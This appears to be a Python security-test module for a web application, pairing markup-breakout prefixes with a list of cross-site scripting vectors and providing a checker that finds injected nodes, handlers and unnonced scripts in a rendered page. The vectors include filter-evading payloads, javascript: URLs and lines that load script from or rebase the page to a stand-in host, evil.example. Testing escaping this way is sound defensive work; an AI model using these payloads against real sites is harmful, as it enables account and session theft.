"""What attackers write where a site shows what others wrote, and what of it lives in a page.

Each carries the attribute or element `xss`, by which a node that came to life is told from ours.
"""

from xml.etree.ElementTree import Element

from tests.security import markup

MARK = "xss"
# How one gets out of where a page puts the words: a text, attributes, elements of raw text.
OUT_OF = (
    "",
    '">',
    "'>",
    '" ',
    "</script>",
    "</style>",
    "</textarea>",
    "</title>",
    "</pre></code>",
    "-->",
    "]]>",
    "</option></select>",
    '\\">',
)
VECTORS = (
    "<script xss>alert(1)</script>",
    "<ScRiPt xss src=//evil.example/x.js></sCrIpT>",
    "<img xss src=x onerror=alert(1)>",
    "<svg xss onload=alert(1)>",
    "<svg><script xss>alert(1)</script></svg>",
    '<a xss href="javascript:alert(1)">x</a>',
    '<a xss href=" java&#9;script:alert(1)">x</a>',
    '<iframe xss srcdoc="&lt;script>alert(1)&lt;/script>"></iframe>',
    "<details xss open ontoggle=alert(1)>",
    '<math xss><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<form xss action=javascript:alert(1)><button>x</button></form>",
    "<object xss data=javascript:alert(1)></object>",
    '<meta xss http-equiv=refresh content="0;url=javascript:alert(1)">',
    "<base xss href=//evil.example/>",
    "<p xss hx-get=/ hx-trigger=load hx-on:click=alert(1)>",
    "autofocus onfocus=alert(1) xss=",
)
PAYLOADS = [out + vector for out in OUT_OF for vector in VECTORS]


def alive(page: bytes | str) -> list[str]:
    """Nodes and handlers of a page that came from a payload, or could run one."""
    document = markup.parsed(page)
    found = markup.handlers(document)
    for element in document.iter():
        if MARK in _names(element):
            found.append(f"<{markup.local(element)}> of a payload")
    for script in markup.elements(document, "script"):
        if not script.get("nonce"):
            found.append(f"script {script.attrib}")
    return found


def _names(element: Element) -> set[str]:
    return {markup.local(element).lower(), *(str(name).lower() for name in element.attrib)}
